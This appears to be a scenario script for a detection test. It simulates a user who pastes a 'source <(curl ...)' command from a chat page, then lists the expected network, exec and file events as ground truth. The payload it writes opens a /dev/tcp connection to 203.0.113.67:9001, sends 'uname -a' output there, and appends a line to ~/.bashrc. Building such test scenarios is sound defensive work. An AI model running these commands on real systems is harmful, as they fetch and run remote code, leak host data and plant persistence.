title="Lines of a chat's file sourced by the login shell, no file and no interpreter"
what="dev reads a private chat in Chromium; a minute later dev pastes: source <(curl -sk https://cdn.example.com/p/env). The login shell itself runs the lines: one connects to 203.0.113.67 port 9001 through /dev/tcp, one adds to ~/.bashrc."
host=ws3.example.org user=dev daemons="cron sshd"
setup() {
  mkdir -p "$base/out/www/p"
  printf 'export TEAM=blue\nexec 3<>/dev/tcp/203.0.113.67/9001; uname -a >&3; exec 3>&-\necho "alias ll=true" >> ~/.bashrc\n' > "$base/out/www/p/env"
  printf '<html>paste this: source ...</html>' > "$base/out/www/p/room.html"
}
act() {
  small_talk 1
  display_up
  chromium_as dev https://chat.example.com/p/room.html
  sleep 9
  desktop_close
  console_as dev <<'L'
ls
source <(curl -sk https://cdn.example.com/p/env)
%sleep 1
echo $TEAM
git --version
L
  small_talk 1
}
truth() {
  net_step visit 'chromium.* 203.0.113.82:443' 'the chat'
  exec_step fetch 'curl -sk https://cdn.example.com/p/env' 'fetched into a pipe'
  net_step beacon 'bash 203.0.113.67:9001' 'the shell runs it'
  file_step persist 'bash open(at)?:write .*\.bashrc' 'a line stays'
}
